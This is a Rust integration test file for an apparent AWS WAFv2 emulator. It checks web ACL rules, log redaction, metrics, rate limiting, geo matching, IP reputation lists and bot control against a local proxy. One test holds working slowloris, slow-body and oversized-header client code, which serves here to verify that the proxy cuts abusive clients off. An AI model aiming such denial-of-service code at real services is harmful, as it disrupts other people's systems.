        c.waf_log_dir = Some(log_dir);
        c.metrics_token_file = Some(token_file);
    })
    .await
    .unwrap();
    let shop = server.running.as_ref().unwrap().proxies[0].clone();
    let c = waf(&server);
    let s3 = crate::s3::s3(&server, &server.access_key_id, &server.secret_access_key);
    s3.create_bucket().bucket("aws-waf-logs-shop").send().await.unwrap();
    let block = || RuleAction::builder().block(BlockAction::builder().build()).build();
    let front = c
        .create_web_acl()
        .name("front")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(rule("admin", 0, uri_contains("admin"), block()))
        .rules(rule(
            "products",
            1,
            uri_contains("products"),
            RuleAction::builder().count(CountAction::builder().build()).build(),
        ))
        .visibility_config(visibility("front"))
        .send()
        .await
        .unwrap();
    let arn = front.summary().unwrap().arn().unwrap().to_owned();

    // Logging: one S3 destination named aws-waf-logs-*, only the fields AWS lets one redact.
    let config = |destination: &str| {
        LoggingConfiguration::builder()
            .resource_arn(&arn)
            .log_destination_configs(destination)
            .redacted_fields(
                FieldToMatch::builder()
                    .single_header(SingleHeader::builder().name("authorization").build().unwrap())
                    .build(),
            )
            .logging_filter(
                LoggingFilter::builder()
                    .default_behavior(FilterBehavior::Drop)
                    .filters(
                        Filter::builder()
                            .behavior(FilterBehavior::Keep)
                            .requirement(FilterRequirement::MeetsAny)
                            .conditions(
                                Condition::builder()
                                    .action_condition(
                                        ActionCondition::builder().action(ActionValue::Block).build().unwrap(),
                                    )
                                    .build(),
                            )
                            .build()
                            .unwrap(),
                    )
                    .build()
                    .unwrap(),
            )
            .build()
            .unwrap()
    };
    let group = "arn:aws:logs:us-east-1:123456789012:log-group:aws-waf-logs-shop";
    let refused = c.put_logging_configuration().logging_configuration(config(group)).send().await;
    assert_eq!(code(refused), "WAFInvalidParameterException", "Rampart serves no CloudWatch Logs");
    let body_redacted = LoggingConfiguration::builder()
        .resource_arn(&arn)
        .log_destination_configs("arn:aws:s3:::aws-waf-logs-shop")
        .redacted_fields(FieldToMatch::builder().body(aws_sdk_wafv2::types::Body::builder().build()).build())
        .build()
        .unwrap();
    let refused = c.put_logging_configuration().logging_configuration(body_redacted).send().await;
    assert_eq!(code(refused), "WAFInvalidParameterException", "a body cannot be redacted");
    let missing =
        c.put_logging_configuration().logging_configuration(config("arn:aws:s3:::aws-waf-logs-nowhere")).send().await;
    assert_eq!(code(missing), "WAFLogDestinationPermissionIssueException", "no such bucket of the account's");
    c.put_logging_configuration().logging_configuration(config("arn:aws:s3:::aws-waf-logs-shop")).send().await.unwrap();
    let got = c.get_logging_configuration().resource_arn(&arn).send().await.unwrap();
    assert_eq!(got.logging_configuration().unwrap().log_destination_configs(), ["arn:aws:s3:::aws-waf-logs-shop"]);
    let listed = c.list_logging_configurations().scope(Scope::Regional).send().await.unwrap();
    assert_eq!(listed.logging_configurations().len(), 1);

    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let url = |path: &str| format!("http://{}{path}", shop.addr);
    for path in ["/", "/cart", "/products?id=7"] {
        assert_eq!(send(&client, "GET", &url(path), &[], "").await.status, 200);
    }
    let secret = [("authorization", "Bearer s3cr3t")];
    assert_eq!(send(&client, "GET", &url("/admin"), &secret, "").await.status, 403);
    assert_eq!(send(&client, "POST", &url("/admin/users"), &[], "").await.status, 403);

    // Sampled requests, by the rule's metric name and by the web ACL's (its default action).
    let window = || {
        let now = std::time::SystemTime::now();
        TimeWindow::builder()
            .start_time(aws_sdk_wafv2::primitives::DateTime::from(now - std::time::Duration::from_secs(600)))
            .end_time(aws_sdk_wafv2::primitives::DateTime::from(now + std::time::Duration::from_secs(60)))
            .build()
            .unwrap()
    };
    let sampled = |metric: &'static str| {
        let (c, arn, window) = (c.clone(), arn.clone(), window());
        async move {
            c.get_sampled_requests()
                .web_acl_arn(&arn)
                .rule_metric_name(metric)
                .scope(Scope::Regional)
                .time_window(window)
                .max_items(100)
                .send()
                .await
                .unwrap()
        }
    };
    let start = std::time::Instant::now();
    let blocked = loop {
        let got = sampled("admin").await;
        if got.sampled_requests().len() == 2 || start.elapsed() > std::time::Duration::from_secs(10) {
            break got;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    assert_eq!(blocked.population_size(), 2);
    let mut uris: Vec<&str> = blocked.sampled_requests().iter().map(|s| s.request().unwrap().uri().unwrap()).collect();
    uris.sort_unstable();
    assert_eq!(uris, ["/admin", "/admin/users"]);
    assert!(blocked.sampled_requests().iter().all(|s| s.action() == Some("BLOCK") && s.weight() == 1));
    let allowed = sampled("front").await;
    assert_eq!((allowed.sampled_requests().len(), allowed.population_size()), (3, 3));
    assert!(allowed.sampled_requests().iter().all(|s| s.action() == Some("ALLOW")));
    // A Count rule's metric samples what it counted, as Count (the default action allowed it).
    let counted = sampled("products").await;
    assert_eq!((counted.sampled_requests().len(), counted.population_size()), (1, 1));
    assert_eq!(counted.sampled_requests()[0].action(), Some("COUNT"));
    assert_eq!(counted.sampled_requests()[0].request().unwrap().uri(), Some("/products?id=7"));

    // Log records: only the blocked requests (the filter), delivered gzipped to the bucket in
    // AWS's layout, the Authorization header redacted; and appended to the log directory.
    let start = std::time::Instant::now();
    let objects = loop {
        let listed = s3.list_objects_v2().bucket("aws-waf-logs-shop").prefix("AWSLogs/").send().await.unwrap();
        if !listed.contents().is_empty() || start.elapsed() > std::time::Duration::from_secs(10) {
            break listed.contents().to_vec();
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    let mut records = Vec::new();
    for o in &objects {
        let key = o.key().unwrap();
        assert!(key.starts_with(&format!("AWSLogs/{ACCOUNT_ID}/WAFLogs/us-east-1/front/")), "{key}");
        assert!(key.ends_with(".log.gz"));
        let body =
            s3.get_object().bucket("aws-waf-logs-shop").key(key).send().await.unwrap().body.collect().await.unwrap();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&body.into_bytes()[..]), &mut text).unwrap();
        records.extend(text.lines().map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()));
    }
    assert_eq!(records.len(), 2, "{records:?}");
    for r in &records {
        assert_eq!((r["webaclId"].as_str(), r["action"].as_str()), (Some(arn.as_str()), Some("BLOCK")));
        assert_eq!(
            (r["terminatingRuleId"].as_str(), r["terminatingRuleType"].as_str()),
            (Some("admin"), Some("REGULAR"))
        );
        assert_eq!(r["httpSourceName"], "ALB");
    }
    let with_secret = records.iter().find(|r| r["httpRequest"]["uri"] == "/admin").unwrap();
    let authorization = with_secret["httpRequest"]["headers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["name"] == "authorization")
        .unwrap();
    assert_eq!(authorization["value"], "REDACTED");
    let on_disk = std::fs::read_to_string(logs.path().join("front.log")).unwrap();
    assert_eq!(on_disk.lines().count(), 2);
    assert!(!on_disk.contains("s3cr3t"));

    // Counters per rule and action, for Prometheus, to the holder of the metrics token only.
    let http = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let url = format!("{}/_rampart/metrics", server.endpoint);
    for wrong in [None, Some("Bearer scrape-0123456789abcdeF"), Some("Basic c2NyYXBlOg==")] {
        let headers: Vec<(&str, &str)> = wrong.map(|w| ("authorization", w)).into_iter().collect();
        let got = send(&http, "GET", &url, &headers, "").await;
        assert_eq!(got.status, 401, "{wrong:?}");
        assert!(!got.body.contains("rampart_waf_requests_total"));
    }
    let got = send(&http, "GET", &url, &[("authorization", "Bearer scrape-0123456789abcdef")], "").await;
    assert_eq!(got.status, 200, "{}", got.body);
    let metrics = got.body;
    assert!(
        metrics.contains(&format!("rampart_waf_requests_total{{web_acl=\"{arn}\",rule=\"admin\",action=\"block\"}} 2")),
        "{metrics}"
    );
    assert!(
        metrics.contains(&format!("rampart_waf_requests_total{{web_acl=\"{arn}\",rule=\"front\",action=\"allow\"}} 3")),
        "{metrics}"
    );
    assert!(
        metrics
            .contains(&format!("rampart_waf_requests_total{{web_acl=\"{arn}\",rule=\"products\",action=\"count\"}} 1")),
        "a Count rule's metric counts what it counted: {metrics}"
    );

    c.delete_logging_configuration().resource_arn(&arn).send().await.unwrap();
    assert_eq!(code(c.get_logging_configuration().resource_arn(&arn).send().await), "WAFNonexistentItemException");
}

#[tokio::test(flavor = "multi_thread")]
async fn rule_groups_are_shared_by_policy_and_rate_limited_clients_api_keys_and_products_are_reported() {
    use aws_sdk_wafv2::types::RuleGroupReferenceStatement;
    let (server, shop) = proxied("shop", "front").await;
    let c = waf(&server);

    // A rule group shared with a member account by its permission policy.
    let org = crate::organizations::orgs(&server, &server.access_key_id, &server.secret_access_key, None);
    org.create_organization().send().await.unwrap();
    let member = crate::organizations::member_account(&org, "edge@example.com", "edge").await;
    let key = crate::organizations::admin_key(&crate::iam::root(&server), "ops").await;
    let (id, secret, token) = crate::organizations::member_session(&server, &key, &member).await;
    let theirs = waf_as(&server, (&id, &secret, Some(&token)));
    let group = c
        .create_rule_group()
        .name("shared")
        .scope(Scope::Regional)
        .capacity(30)
        .rules(rule(
            "admin",
            0,
            uri_contains("admin"),
            RuleAction::builder().block(BlockAction::builder().build()).build(),
        ))
        .visibility_config(visibility("shared"))
        .send()
        .await
        .unwrap();
    let group_arn = group.summary().unwrap().arn().unwrap().to_owned();
    let reference = || {
        Rule::builder()
            .name("shared")
            .priority(0)
            .statement(
                Statement::builder()
                    .rule_group_reference_statement(
                        RuleGroupReferenceStatement::builder().arn(&group_arn).build().unwrap(),
                    )
                    .build(),
            )
            .override_action(
                aws_sdk_wafv2::types::OverrideAction::builder()
                    .none(aws_sdk_wafv2::types::NoneAction::builder().build())
                    .build(),
            )
            .visibility_config(visibility("shared"))
            .build()
            .unwrap()
    };
    let their_acl = || {
        theirs
            .create_web_acl()
            .name("edge")
            .scope(Scope::Regional)
            .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
            .rules(reference())
            .visibility_config(visibility("edge"))
            .send()
    };
    assert_eq!(code(their_acl().await), "WAFNonexistentItemException", "not shared yet");
    let policy = |actions: &str| {
        format!(
            r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Principal":{{"AWS":"{member}"}},"Action":[{actions}]}}]}}"#
        )
    };
    let wildcard = c.put_permission_policy().resource_arn(&group_arn).policy(policy(r#""wafv2:*""#)).send().await;
    assert_eq!(code(wildcard), "WAFInvalidPermissionPolicyException");
    let granted = policy(r#""wafv2:CreateWebACL","wafv2:UpdateWebACL","wafv2:PutFirewallManagerRuleGroups""#);
    c.put_permission_policy().resource_arn(&group_arn).policy(&granted).send().await.unwrap();
    assert_eq!(
        c.get_permission_policy().resource_arn(&group_arn).send().await.unwrap().policy(),
        Some(granted.as_str())
    );
    let edge = their_acl().await.unwrap();
    let got = theirs
        .get_web_acl()
        .name("edge")
        .scope(Scope::Regional)
        .id(edge.summary().unwrap().id().unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(got.web_acl().unwrap().capacity(), 30, "the shared group's capacity counts");
    c.delete_permission_policy().resource_arn(&group_arn).send().await.unwrap();
    assert_eq!(code(c.get_permission_policy().resource_arn(&group_arn).send().await), "WAFNonexistentItemException");

    // The clients a rate-based rule holds are reported while it holds them.
    let flood = per_ip_limit(10, None);
    let front = c
        .create_web_acl()
        .name("front")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(rule("flood", 0, flood, RuleAction::builder().block(BlockAction::builder().build()).build()))
        .visibility_config(visibility("front"))
        .send()
        .await
        .unwrap();
    let front = front.summary().unwrap().clone();
    let keys = || {
        c.get_rate_based_statement_managed_keys()
            .scope(Scope::Regional)
            .web_acl_name("front")
            .web_acl_id(front.id().unwrap())
            .rule_name("flood")
            .send()
    };
    assert!(keys().await.unwrap().managed_keys_ipv4().unwrap().addresses().is_empty());
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    flood_until_held(&client, shop.addr, keys).await;
    let not_rate = c
        .get_rate_based_statement_managed_keys()
        .scope(Scope::Regional)
        .web_acl_name("front")
        .web_acl_id(front.id().unwrap())
        .rule_name("nowhere")
        .send()
        .await;
    assert_eq!(code(not_rate), "WAFNonexistentItemException");

    // A rate-based rule inside a rule group: the clients it holds are reported by the web ACL's
    // rule that references the group and the group's rule.
    let block = RuleAction::builder().block(BlockAction::builder().build()).build();
    let limits = c
        .create_rule_group()
        .name("limits")
        .scope(Scope::Regional)
        .capacity(10)
        .rules(rule("flood-in-group", 0, per_ip_limit(10, None), block))
        .visibility_config(visibility("limits"))
        .send()
        .await
        .unwrap();
    let reference = Rule::builder()
        .name("limits")
        .priority(0)
        .statement(
            Statement::builder()
                .rule_group_reference_statement(
                    RuleGroupReferenceStatement::builder()
                        .arn(limits.summary().unwrap().arn().unwrap())
                        .build()
                        .unwrap(),
                )
                .build(),
        )
        .override_action(OverrideAction::builder().none(aws_sdk_wafv2::types::NoneAction::builder().build()).build())
        .visibility_config(visibility("limits"))
        .build()
        .unwrap();
    let now = c.get_web_acl().name("front").scope(Scope::Regional).id(front.id().unwrap()).send().await.unwrap();
    let updated = c
        .update_web_acl()
        .name("front")
        .scope(Scope::Regional)
        .id(front.id().unwrap())
        .lock_token(now.lock_token().unwrap())
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(reference)
        .visibility_config(visibility("front"))
        .send()
        .await
        .unwrap();
    let front_token = updated.next_lock_token().unwrap().to_owned();
    let in_group = |inner: &'static str| {
        c.get_rate_based_statement_managed_keys()
            .scope(Scope::Regional)
            .web_acl_name("front")
            .web_acl_id(front.id().unwrap())
            .rule_name("limits")
            .rule_group_rule_name(inner)
            .send()
    };
    flood_until_held(&client, shop.addr, || in_group("flood-in-group")).await;
    assert_eq!(code(in_group("no-such-rule").await), "WAFNonexistentItemException");

    // API keys for the CAPTCHA JavaScript API, by the domains they serve.
    let api_key = c.create_api_key().scope(Scope::Regional).token_domains("shop.example.com").send().await.unwrap();
    let api_key = api_key.api_key().unwrap().to_owned();
    let listed = c.list_api_keys().scope(Scope::Regional).send().await.unwrap();
    assert_eq!(listed.api_key_summaries()[0].api_key(), Some(api_key.as_str()));
    let decrypted = c.get_decrypted_api_key().scope(Scope::Regional).api_key(&api_key).send().await.unwrap();
    assert_eq!(decrypted.token_domains(), ["shop.example.com"]);
    c.delete_api_key().scope(Scope::Regional).api_key(&api_key).send().await.unwrap();
    assert_eq!(
        code(c.get_decrypted_api_key().scope(Scope::Regional).api_key(&api_key).send().await),
        "WAFNonexistentItemException"
    );

    // The managed products Rampart ships; no seller's rule sets, no mobile SDK releases.
    let products = c.describe_all_managed_products().scope(Scope::Regional).send().await.unwrap();
    assert!(
        products.managed_products().iter().any(|p| p.managed_rule_set_name() == Some("AWSManagedRulesUnixRuleSet"))
    );
    let by_vendor =
        c.describe_managed_products_by_vendor().scope(Scope::Regional).vendor_name("AWS").send().await.unwrap();
    assert_eq!(by_vendor.managed_products().len(), products.managed_products().len());
    assert!(c.list_managed_rule_sets().scope(Scope::Regional).send().await.unwrap().managed_rule_sets().is_empty());
    let releases = c.list_mobile_sdk_releases().platform(aws_sdk_wafv2::types::Platform::Android).send().await.unwrap();
    assert!(releases.release_summaries().is_empty());
    let fms = c
        .delete_firewall_manager_rule_groups()
        .web_acl_arn(front.arn().unwrap())
        .web_acl_lock_token(&front_token)
        .send()
        .await
        .unwrap();
    assert_eq!(fms.next_web_acl_lock_token(), Some(front_token.as_str()));
    let now = std::time::SystemTime::now();
    let bots = c
        .get_top_path_statistics_by_traffic()
        .scope(Scope::Regional)
        .web_acl_arn(front.arn().unwrap())
        .time_window(
            aws_sdk_wafv2::types::TimeWindow::builder()
                .start_time(aws_sdk_wafv2::primitives::DateTime::from(now - std::time::Duration::from_secs(600)))
                .end_time(aws_sdk_wafv2::primitives::DateTime::from(now))
                .build()
                .unwrap(),
        )
        .limit(10)
        .number_of_top_traffic_bots_per_path(3)
        .send()
        .await
        .unwrap();
    assert_eq!(bots.total_request_count(), 0, "no Bot Control labels, no bot traffic");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_websocket_upgrade_passes_the_web_acl_then_tunnels_to_the_upstream() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (server, chat) = proxied("chat", "front").await;
    web_acl_blocking_admin(&server, "front").await;
    let handshake = |path: &str| {
        format!(
            "GET {path} HTTP/1.1\r\nHost: chat.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
             Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
    };
    // Until the end of the response's head.
    async fn head(stream: &mut tokio::net::TcpStream) -> String {
        let mut got = Vec::new();
        let mut byte = [0u8; 1];
        while !got.ends_with(b"\r\n\r\n") {
            assert_eq!(stream.read(&mut byte).await.unwrap(), 1, "closed early: {}", String::from_utf8_lossy(&got));
            got.extend_from_slice(&byte);
        }
        String::from_utf8(got).unwrap()
    }
    let mut ws = tokio::net::TcpStream::connect(chat.addr).await.unwrap();
    ws.write_all(handshake("/chat").as_bytes()).await.unwrap();
    let answer = head(&mut ws).await;
    assert!(answer.starts_with("HTTP/1.1 101"), "{answer}");
    assert!(answer.to_ascii_lowercase().contains("upgrade: websocket"), "{answer}");
    ws.write_all(b"hello through the proxy").await.unwrap();
    let mut echoed = [0u8; 23];
    ws.read_exact(&mut echoed).await.unwrap();
    assert_eq!(&echoed, b"HELLO THROUGH THE PROXY", "the upstream's end of the tunnel answered");

    // The web ACL decides the upgrade request first.
    let mut blocked = tokio::net::TcpStream::connect(chat.addr).await.unwrap();
    blocked.write_all(handshake("/admin/chat").as_bytes()).await.unwrap();
    let answer = head(&mut blocked).await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
}

#[tokio::test(flavor = "multi_thread")]
async fn slow_and_oversized_clients_are_cut_off_while_normal_clients_are_served() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let server = TestServer::start_with(|c| {
        c.proxy = vec![proxy_to(upstream, "shop", None)];
        c.header_read_timeout_secs = 1;
        c.body_read_timeout_secs = 1;
    })
    .await
    .unwrap();
    let addr = server.running.as_ref().unwrap().proxies[0].addr;

    // Slowloris: headers a line at a time, never finished. Each is cut within the header timeout.
    let cut = Arc::new(AtomicUsize::new(0));
    let mut slow = Vec::new();
    for _ in 0..40 {
        let cut = cut.clone();
        slow.push(tokio::spawn(async move {
            let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
            s.write_all(b"GET / HTTP/1.1\r\nHost: shop\r\n").await.unwrap();
            let started = std::time::Instant::now();
            for _ in 0..40 {
                tokio::time::sleep(std::time::Duration::from_millis(200)).await;
                if s.write_all(b"X-Slow: yes\r\n").await.is_err() {
                    break;
                }
                let mut probe = [0u8; 1];
                if let Ok(Ok(0)) = tokio::time::timeout(std::time::Duration::from_millis(1), s.read(&mut probe)).await {
                    break;
                }
            }
            if started.elapsed() < std::time::Duration::from_secs(6) {
                cut.fetch_add(1, Ordering::Relaxed);
            }
        }));
    }
    // Slow bodies: a body that never finishes gets 408.
    let mut bodies = Vec::new();
    for _ in 0..10 {
        bodies.push(tokio::spawn(async move {
            let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
            s.write_all(
                b"POST /upload HTTP/1.1\r\nHost: shop\r\nUser-Agent: slow\r\nContent-Length: 1000\r\n\r\nonly this",
            )
            .await
            .unwrap();
            let mut answer = Vec::new();
            let _ = tokio::time::timeout(std::time::Duration::from_secs(5), s.read_to_end(&mut answer)).await;
            String::from_utf8_lossy(&answer).into_owned()
        }));
    }
    // Meanwhile, ordinary clients.
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let mut ok = 0;
    let total = 300;
    for i in 0..total {
        let got =
            send(&client, "GET", &format!("http://{addr}/products/{i}"), &[("user-agent", "Mozilla/5.0")], "").await;
        ok += usize::from(got.status == 200);
    }
    assert!(ok * 100 >= total * 99, "{ok} of {total} ordinary requests served");
    for h in slow {
        h.await.unwrap();
    }
    assert_eq!(cut.load(Ordering::Relaxed), 40, "every slowloris connection is cut");
    for h in bodies {
        let answer = h.await.unwrap();
        assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    }

    // Too many headers, or too large a head: 431, never forwarded.
    let mut many = String::from("GET / HTTP/1.1\r\nHost: shop\r\n");
    for i in 0..150 {
        many.push_str(&format!("X-H{i}: v\r\n"));
    }
    many.push_str("\r\n");
    let large = format!("GET / HTTP/1.1\r\nHost: shop\r\nX-Big: {}\r\n\r\n", "a".repeat(70 * 1024));
    for raw in [many, large] {
        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
        s.write_all(raw.as_bytes()).await.unwrap();
        let mut answer = Vec::new();
        let _ = tokio::time::timeout(std::time::Duration::from_secs(5), s.read_to_end(&mut answer)).await;
        let answer = String::from_utf8_lossy(&answer);
        assert!(answer.starts_with("HTTP/1.1 431"), "{answer}");
    }
}

/// Geo and ASN matches ask the geolocation databases the server was given (MaxMind's test
/// databases here), by the client's address or the first of a forwarded header.
#[tokio::test]
async fn geo_and_asn_matches_ask_the_servers_geolocation_databases() {
    use aws_sdk_wafv2::types::{
        AsnMatchStatement, CountryCode, FallbackBehavior, ForwardedIpConfig, GeoMatchStatement,
    };
    let data = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("data/geoip");
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let server = TestServer::start_with(move |c| {
        c.proxy = vec![proxy_to(upstream, "shop", Some("geo"))];
        c.geoip_country_db = Some(data.join("GeoIP2-Country-Test.mmdb"));
        c.geoip_asn_db = Some(data.join("GeoLite2-ASN-Test.mmdb"));
    })
    .await
    .unwrap();
    let shop = server.running.as_ref().unwrap().proxies[0].addr;
    let forwarded = || {
        ForwardedIpConfig::builder().header_name("X-Forwarded-For").fallback_behavior(FallbackBehavior::NoMatch).build()
    };
    let gb =
        GeoMatchStatement::builder().country_codes(CountryCode::Gb).forwarded_ip_config(forwarded().unwrap()).build();
    let google =
        AsnMatchStatement::builder().asn_list(15169).forwarded_ip_config(forwarded().unwrap()).build().unwrap();
    let block = || RuleAction::builder().block(BlockAction::builder().build()).build();
    waf(&server)
        .create_web_acl()
        .name("geo")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(rule("from-gb", 0, Statement::builder().geo_match_statement(gb).build(), block()))
        .rules(rule("google", 1, Statement::builder().asn_match_statement(google).build(), block()))
        .visibility_config(visibility("geo"))
        .send()
        .await
        .unwrap();
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let from = |ip: &'static str| {
        let client = client.clone();
        async move {
            let headers: Vec<(&str, &str)> = if ip.is_empty() { vec![] } else { vec![("x-forwarded-for", ip)] };
            send(&client, "GET", &format!("http://{shop}/"), &headers, "").await.status
        }
    };
    assert_eq!(from("81.2.69.142").await, 403, "GB");
    assert_eq!(from("216.160.83.56").await, 200, "US");
    assert_eq!(from("89.160.20.112, 81.2.69.142").await, 200, "the first address (SE) decides");
    assert_eq!(from("1.0.0.1").await, 403, "AS 15169");
    assert_eq!(from("12.81.92.1").await, 200, "AS 7018");
    assert_eq!(from("").await, 200, "no header: NO_MATCH");
}

/// A web ACL rule running AWS's managed group `name` (its own name too), with `config`.
pub(crate) fn managed_group_rule(
    name: &str,
    priority: i32,
    config: Option<aws_sdk_wafv2::types::ManagedRuleGroupConfig>,
) -> Rule {
    let statement = aws_sdk_wafv2::types::ManagedRuleGroupStatement::builder()
        .vendor_name("AWS")
        .name(name)
        .set_managed_rule_group_configs(config.map(|c| vec![c]));
    Rule::builder()
        .name(name)
        .priority(priority)
        .statement(Statement::builder().managed_rule_group_statement(statement.build().unwrap()).build())
        .override_action(OverrideAction::builder().none(aws_sdk_wafv2::types::NoneAction::builder().build()).build())
        .visibility_config(visibility(name))
        .build()
        .unwrap()
}

/// A server whose proxy `shop` is decided by the web ACL `acl`, with these IP list files in its
/// `--waf-ip-lists` directory (kept while the directory handle lives).
async fn serve_with_ip_lists(
    acl: &str,
    files: &[(&str, &str)],
) -> (tempfile::TempDir, TestServer, std::net::SocketAddr) {
    let lists = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(lists.path().join(name), text).unwrap();
    }
    let upstream = rampart_testkit::upstream::start().await.unwrap();
    let (dir, acl) = (lists.path().to_owned(), acl.to_owned());
    let server = TestServer::start_with(move |c| {
        c.proxy = vec![proxy_to(upstream, "shop", Some(&acl))];
        c.waf_ip_lists = Some(dir);
    })
    .await
    .unwrap();
    let shop = server.running.as_ref().unwrap().proxies[0].addr;
    (lists, server, shop)
}

/// The IP reputation groups match the lists the operator imported (`--waf-ip-lists`), read again
/// when a list's file changes; AWS's rule names and labels are described.
#[tokio::test]
async fn the_ip_reputation_groups_match_the_operators_lists_and_follow_their_files() {
    let feed = "# a feed\n192.0.2.0/24 ; SBL1\n127.0.0.1\n";
    let (lists, server, shop) = serve_with_ip_lists("reputation", &[("AWSManagedIPReputationList.txt", feed)]).await;
    let reputation = lists.path().join("AWSManagedIPReputationList.txt");
    let c = waf(&server);
    let described = c
        .describe_managed_rule_group()
        .vendor_name("AWS")
        .name("AWSManagedRulesAmazonIpReputationList")
        .scope(Scope::Regional)
        .send()
        .await
        .unwrap();
    assert_eq!(described.capacity(), Some(25));
    let names: Vec<&str> = described.rules().iter().map(|r| r.name().unwrap()).collect();
    assert_eq!(names, ["AWSManagedIPReputationList", "AWSManagedReconnaissanceList", "AWSManagedIPDDoSList"]);
    c.create_web_acl()
        .name("reputation")
        .scope(Scope::Regional)
        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
        .rules(managed_group_rule("AWSManagedRulesAmazonIpReputationList", 0, None))
        .rules(managed_group_rule("AWSManagedRulesAnonymousIpList", 1, None))
        .visibility_config(visibility("reputation"))
        .send()
        .await
        .unwrap();
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let status = || async { send(&client, "GET", &format!("http://{shop}/"), &[], "").await.status };
    assert_eq!(status().await, 403, "this client (127.0.0.1) is on the reputation list");

    // The feed is refreshed without this address: the next requests pass.
    std::fs::write(&reputation, "192.0.2.0/24\n").unwrap();
    let mut passed = false;
    for _ in 0..50 {
        if status().await == 200 {
            passed = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    assert!(passed, "the list was read again");
    // Onto the anonymous list's hosting providers instead.
    std::fs::write(lists.path().join("HostingProviderIPList.txt"), "127.0.0.0/8\n").unwrap();
    let mut blocked = false;
    for _ in 0..50 {
        if status().await == 403 {
            blocked = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    assert!(blocked, "a new list file is read");
}

/// Bot Control's common level through the proxy: an HTTP library is blocked, a browser passes, a
/// search engine passes where the operator's list verifies it; the targeted level is refused.
#[tokio::test]
async fn bot_control_blocks_self_identified_bots_unless_the_operators_list_verifies_them() {
    use aws_sdk_wafv2::types::{AwsManagedRulesBotControlRuleSet, InspectionLevel, ManagedRuleGroupConfig};
    let (_lists, server, shop) = serve_with_ip_lists("bots", &[("VerifiedBot_googlebot.txt", "127.0.0.1\n")]).await;
    let bot_control = |level: InspectionLevel| {
        let level = AwsManagedRulesBotControlRuleSet::builder().inspection_level(level).build().unwrap();
        let config = ManagedRuleGroupConfig::builder().aws_managed_rules_bot_control_rule_set(level).build();
        managed_group_rule("AWSManagedRulesBotControlRuleSet", 0, Some(config))
    };
    let create = |level| {
        waf(&server)
            .create_web_acl()
            .name("bots")
            .scope(Scope::Regional)
            .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
            .rules(bot_control(level))
            .visibility_config(visibility("bots"))
            .send()
    };
    // The group describes every label it can add, its token management's included.
    let described = waf(&server)
        .describe_managed_rule_group()
        .vendor_name("AWS")
        .name("AWSManagedRulesBotControlRuleSet")
        .scope(Scope::Regional)
        .send()
        .await
        .unwrap();
    let labels: Vec<&str> = described.available_labels().iter().filter_map(|l| l.name()).collect();
    for label in [
        "awswaf:managed:aws:bot-control:bot:category:search_engine",
        "awswaf:managed:aws:bot-control:bot:name:googlebot",
        "awswaf:managed:aws:bot-control:bot:verified",
        "awswaf:managed:aws:bot-control:signal:non_browser_user_agent",
        "awswaf:managed:token:absent",
        "awswaf:managed:token:rejected:expired",
        "awswaf:managed:captcha:rejected:not_solved",
        "awswaf:managed:aws:bot-control:targeted:aggregate:volumetric:ip:token_absent",
        "awswaf:managed:aws:bot-control:targeted:aggregate:volumetric:session:medium",
    ] {
        assert!(labels.contains(&label), "{label} in {labels:?}");
    }
    let rules: Vec<&str> = described.rules().iter().filter_map(|r| r.name()).collect();
    assert!(rules.contains(&"TGT_VolumetricIpTokenAbsent") && rules.contains(&"TGT_SignalBrowserInconsistency"));
    let acl = create(InspectionLevel::Common).await.unwrap();
    let acl = acl.summary().unwrap();
    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
        .build(hyper_util::client::legacy::connect::HttpConnector::new());
    let status = |agent: &'static str| {
        let client = client.clone();
        async move { send(&client, "GET", &format!("http://{shop}/"), &[("user-agent", agent)], "").await.status }
    };
